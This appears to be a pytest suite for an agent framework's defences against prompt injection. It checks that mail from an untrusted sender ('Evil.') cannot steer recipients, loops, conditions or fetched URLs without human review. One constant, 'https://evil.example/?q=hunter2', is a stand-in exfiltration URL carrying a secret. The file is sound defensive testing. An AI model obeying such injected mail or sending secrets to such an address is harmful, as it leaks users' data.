"""Where data comes from decides what is asked, in whole runs under the default policy."""

import gc
import weakref
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from agentic_workflows import AgenticWorkflow, Limits, ScriptedAgent, WorkflowStep, approve, edit, reject
from agentic_workflows.errors import ActionError
from agentic_workflows.graph.history import NAMELESS, WITHHELD
from agentic_workflows.testing import RecordingAction

MAIL = {"type": "object", "properties": {"to": {"type": "string"}, "text": {"type": "string"}}, "required": ["to"]}
ASKED = (
    "Data from an untrusted source says whom or what it acts on, or how much. "
    "This `to` comes from `inbox.sender`, which is untrusted."
)
READ = {"name": "read", "action": "inbox", "outputs": ["mail"]}


def answer(to: str, text: str = "${mail.body}") -> dict[str, Any]:
    step = {"name": "send", "action": "send", "inputs": {"to": to, "text": text}}
    return {"goal": "Answer the mail", "steps": [dict(READ), step]}


class House:
    """An inbox that strangers write to, and mails that leave."""

    def __init__(
        self, agent: object, database: str | Path = "memory", *, directory_fields: Sequence[str] = (), **options: Any
    ) -> None:
        mail = {"sender": "eve@example.com", "body": "Evil."}
        self.inbox = RecordingAction("inbox", result=mail, directory_fields=directory_fields)
        self.sent = RecordingAction(
            "send",
            result="sent",
            read_only=False,
            destructive=False,
            open_world=True,
            input_schema=MAIL,
            arguments={"text": "content"},
        )
        actions = [self.inbox, self.sent]
        self.workflow = AgenticWorkflow(agent, 20, actions=actions, database=database, **options)  # type: ignore[arg-type]


async def test_a_planned_address_is_written_to_and_a_found_one_is_asked_about() -> None:
    house = House(ScriptedAgent([answer("ada@example.org"), answer("${mail.sender}")]))
    assert (await house.workflow.run("Answer the mail"))["state"] == "COMPLETE"
    asked = await house.workflow.run("Answer the mail")
    (question,) = asked["reviews"]
    assert question["reason"] == ASKED
    assert question["provenance"] == {
        "to": [{"source": "inbox.sender", "trusted": False}],
        "text": [{"source": "inbox.body", "trusted": False}],
    }
    assert asked["report"]["provenance"]["send"] == question["provenance"]
    done = await house.workflow.resume(approve())
    assert (done["state"], [call["to"] for call in house.sent.calls]) == (
        "COMPLETE", ["ada@example.org", "eve@example.com"],
    )  # fmt: skip


@pytest.mark.parametrize(
    "to, state",
    [
        ("${mail.sender}", "COMPLETE"),
        ("${mail.sender}.evil", "REVIEWING"),
        ("${mail.sender | join('', [@, '.evil'])}", "REVIEWING"),
        ("${mail.sender | reverse(@)}", "REVIEWING"),
    ],
)
async def test_a_directory_vouches_for_what_it_says_and_not_for_what_is_made_of_it(to: str, state: str) -> None:
    house = House(ScriptedAgent([answer(to)]), policies=["default", "people_directories"], directory_fields=["sender"])
    assert (await house.workflow.run("Answer the mail"))["state"] == state


async def test_labels_hold_for_whoever_continues_the_run(tmp_path: Path) -> None:
    plan = answer("${mail.sender}")
    plan["steps"][0]["human_review_required"] = True
    first = House(ScriptedAgent([plan]), tmp_path / "runs.db")
    assert (await first.workflow.run("Answer the mail", thread_id="t"))["state"] == "REVIEWING"
    second = House(ScriptedAgent([]), tmp_path / "runs.db")
    (question,) = (await second.workflow.resume(approve(), thread_id="t"))["reviews"]
    assert (question["step"], question["reason"]) == ("send", ASKED)


class Looking:
    """Plans to read, then looks at what was read and plans to do what it says."""

    def __init__(self, then: Mapping[str, Any] | None = None, *, sees_outputs: bool = True) -> None:
        self.sees_outputs = sees_outputs
        self._then = answer("eve@example.com") if then is None else then
        self.seen: list[str] = []
        self.reviewed: list[str] = []

    async def create_plan(self, goal: str, history: Sequence[Mapping[str, Any]]) -> dict[str, Any]:
        self.seen.append(str(history))
        return {"goal": goal, "steps": [READ]} if len(self.seen) == 1 else {**self._then}

    async def review_progress(self, goal: str, history: Sequence[Mapping[str, Any]]) -> str:  # noqa: ARG002
        self.reviewed.append(str(history))
        return "The answer." if len(self.seen) == 1 else ""


async def test_what_is_planned_after_untrusted_output_asks_unless_none_was_shown() -> None:
    agent = Looking(sees_outputs=True)
    asked = await House(agent, limits=Limits(max_replans=1)).workflow.run("Answer the mail")
    assert "Evil." in agent.seen[1]
    (question,) = asked["reviews"]
    assert question["rules"] == ["untrusted-steers", "planned-after-untrusted"]
    agent = Looking(sees_outputs=False)
    done = await House(agent, limits=Limits(max_replans=1)).workflow.run("Answer the mail")
    assert ("Evil." in str(agent.seen + agent.reviewed), done["state"]) == (False, "COMPLETE")
    assert "The goal is not reached yet: The answer." in agent.seen[1]  # it read none of it, so its word is trusted


ON_CONDITION = """
@id("on-condition") @reason("A stranger says whether it is done.")
forbid (principal, action in Action::"effect", resource)
when { context.untrusted_control.contains("when") }
unless { context.approved };
"""


@pytest.mark.parametrize(
    "step, rule, why, questions",
    [
        ({"foreach": "${mails}"}, "untrusted-number", "Its `foreach` comes from `inbox`, which is untrusted.", 2),
        (
            {"when": "${mails[0].urgent}"},
            "on-condition",
            "Its `when` comes from `inbox.urgent`, which is untrusted.",
            1,
        ),
        ({"after": ["alarm"]}, "on-condition", "Its `when` comes from `inbox.urgent`, which is untrusted.", 1),
    ],
)
async def test_what_strangers_say_of_how_often_an_effect_happens_is_asked_about_and_of_whether_where_a_rule_says_so(
    step: Any, rule: str, why: str, questions: int, tmp_path: Path
) -> None:
    """Although the plan itself says whom it reaches and all else, and nothing of theirs is in it."""
    (tmp_path / "on_condition.cedar").write_text(ON_CONDITION, encoding="utf-8")
    read = {"name": "read", "action": "inbox", "outputs": ["mails"]}
    alarm = {"name": "alarm", "action": "now", "when": "${mails[0].urgent}"}
    send = {"name": "send", "action": "send", "inputs": {"to": "bob@example.org", "text": "hi"}, **step}
    agent = ScriptedAgent([{"goal": "Tell Bob", "steps": [read, alarm, send]}])
    sent, mails = House(agent).sent, [{"urgent": True}, {"urgent": False}]
    actions = [RecordingAction("inbox", result=mails), RecordingAction("now", result="2026", trusted=True), sent]
    policies = ["default", tmp_path / "on_condition.cedar"]
    workflow = AgenticWorkflow(agent, actions=actions, policies=policies)
    asked = await workflow.run("Tell Bob")
    assert [(one["rules"], one["reason"].endswith(why)) for one in asked["reviews"]] == [([rule], True)] * questions
    done = await workflow.resume({one["id"]: approve() for one in asked["reviews"]})
    assert (done["state"], len(sent.calls)) == ("COMPLETE", questions)


INVITE = {
    "type": "object",
    "properties": {"who": {"type": "object", "properties": {"name": {"type": "string"}}}},
    "additionalProperties": False,
}
NO_INVITES = """
@id("no-invites") @reason("Nobody is invited.")
forbid (principal, action == Action::"invite", resource) when { context.inputs has who };
"""


class Blind(ScriptedAgent):
    """Gives plans as they are, and is shown nothing that is untrusted."""

    sees_outputs = False


@pytest.mark.parametrize(
    "mail, told", [({"name": "Eve", "Evil.": 1}, WITHHELD), ({"name": "Eve"}, "Nobody is invited.")]
)
async def test_a_denial_is_trusted_text_where_it_is_what_a_rule_says(mail: Any, told: str, tmp_path: Path) -> None:
    """An error of policy quotes what it cannot decide on."""
    steps = [READ, {"name": "ask", "action": "invite", "inputs": {"who": "${mail}"}}]
    agent = Blind([{"goal": "g", "steps": steps}, {"goal": "g", "steps": steps[:1]}])
    actions = [RecordingAction("inbox", result=mail), RecordingAction("invite", input_schema=INVITE)]
    (tmp_path / "no_invites.cedar").write_text(NO_INVITES, encoding="utf-8")
    policies = ["default", tmp_path / "no_invites.cedar"]
    workflow = AgenticWorkflow(agent, actions=actions, policies=policies, limits=Limits(max_replans=1))
    assert (await workflow.run("Invite who wrote"))["state"] == "COMPLETE"
    _, denied, failed = agent.histories[1]
    assert (denied["status"], told in str(denied), told in str(failed)) == ("denied", True, True)
    assert "Evil." not in str([denied, failed])


@pytest.mark.parametrize(
    "late, starts",
    [
        ([{"name": "Evil.", "action": "inbox"}, {"name": "no", "action": "fails"}], 2),
        (
            [READ, {"name": "not", "action": "inbox", "when": "${mail == 'Evil.'}"}, {"name": "no", "action": "fails"}],
            3,
        ),
        ([{"name": "Evil.", "action": "fails"}], 1),
        ([{"name": "do", "action": "Evil."}], 0),
        ("Evil.", 0),
        (None, 0),
    ],
)
async def test_who_sees_nothing_untrusted_reads_no_word_of_a_plan_of_who_does(
    late: Any, starts: int, tmp_path: Path
) -> None:
    """Whichever agent goes on with the run: the one that saw untrusted output may only repeat it."""

    def workflow(agent: object) -> AgenticWorkflow:
        actions = [RecordingAction("inbox", result="Mail."), RecordingAction("fails", error=ActionError("no"))]
        limits, database = Limits(max_replans=9), tmp_path / "runs.db"
        return AgenticWorkflow(agent, 4 + starts, actions=actions, database=database, limits=limits)  # type: ignore[arg-type]

    read = {"steps": [READ, {"name": "no", "action": "fails"}]}
    error = ValueError("Evil.")
    seeing = ScriptedAgent([read, {"steps": late} if late else error, *[error] * 9])
    blind = Blind([{"steps": [READ]}])
    assert (await workflow(seeing).run("g", thread_id="t"))["state"] == "FAILED"
    done = await workflow(blind).resume(thread_id="t", max_iterations=20)
    assert (done["state"], "Evil." in str(done["history"])) == ("COMPLETE", True)
    assert "Evil." not in str(blind.histories)


@pytest.mark.parametrize(
    "said, told",
    [(reject("Use bob."), f"A reviewer rejected step {NAMELESS}: Use bob."), (edit({"to": "bob"}), "Not yet.")],
)
async def test_what_is_told_of_an_answer_to_a_late_plan_holds_no_word_of_it(
    said: Any, told: str, tmp_path: Path
) -> None:
    """But what a person said of it in words of their own."""
    fails = {"name": "fails", "action": "send", "inputs": {"to": "${mail.nobody}"}}
    sends = {"name": "Evil.", "action": "send", "inputs": {"to": "ada"}}
    options: Mapping[str, Any] = {"database": tmp_path / "runs.db", "limits": Limits(max_replans=9)}
    seeing = ScriptedAgent([{"steps": [READ, fails]}, {"steps": [READ, sends, {**fails, "after": ["Evil."]}]}])
    blind = Blind([{"steps": [READ]}])
    assert (await House(seeing, **options).workflow.run("g", thread_id="t"))["state"] == "REVIEWING"
    ended = await House(blind, **options).workflow.resume(said, thread_id="t")
    assert ended["state"] == "COMPLETE"
    assert ("Evil." in str(blind.histories), told in str(blind.histories)) == (False, True)
    assert {key for entry in ended["history"] for key in entry} <= {"step", "status", "result", "reason"}


ADDRESS = {"type": "object", "properties": {"url": {"type": "string"}}}
EVIL = "https://evil.example/?q=hunter2"


@pytest.mark.parametrize(
    "goal, field",
    [
        ("Answer the mail", EVIL),
        (f"Answer the mail with {EVIL} please", EVIL),
        ("Answer the mail", f"${{now | '{EVIL}'}}"),
        ("Answer the mail", f'${{now | {{"{EVIL}": @}} | keys(@) | [0]}}'),
    ],
)
async def test_after_untrusted_output_no_word_of_the_plan_becomes_an_address_that_is_read(
    goal: str, field: str
) -> None:
    """Not by a goal of the plan's own, and not by a JMESPath on a value that is trusted."""
    now = {"name": "now", "action": "now", "outputs": ["now"]}
    plan = {"goal": goal, "steps": [now, {"name": "get", "action": "get", "inputs": {"url": field}}]}
    get = RecordingAction("get", open_world=True, input_schema=ADDRESS)
    actions = [RecordingAction("inbox", result="Evil."), RecordingAction("now", result="2026", trusted=True), get]
    asked = await AgenticWorkflow(Looking(plan), actions=actions, limits=Limits(max_replans=1)).run("Answer the mail")
    (question,) = asked["reviews"]
    assert question["reason"].endswith("This `url` comes from the plan, which is untrusted.")
    assert get.calls == []


@pytest.mark.parametrize("has_actions", [True, False])
async def test_an_action_that_nobody_uses_any_more_is_forgotten(*, has_actions: bool) -> None:
    class Agent(ScriptedAgent):
        async def execute_step(self, step: WorkflowStep) -> str:  # noqa: ARG002 - its shape
            return "mail"

    async def ran() -> list[weakref.ref[Any]]:
        steps = [READ, {"name": "again", "action": "inbox", "inputs": {"of": "${mail}"}}]
        agent, inbox = Agent([{"goal": "g", "steps": steps}]), RecordingAction("inbox", result="mail")
        result = await AgenticWorkflow(agent, actions=[inbox] if has_actions else None).run("g")
        assert result["state"] == "COMPLETE"
        return [weakref.ref(agent), weakref.ref(inbox)]

    used = await ran()
    gc.collect()
    assert [one() for one in used] == [None, None]
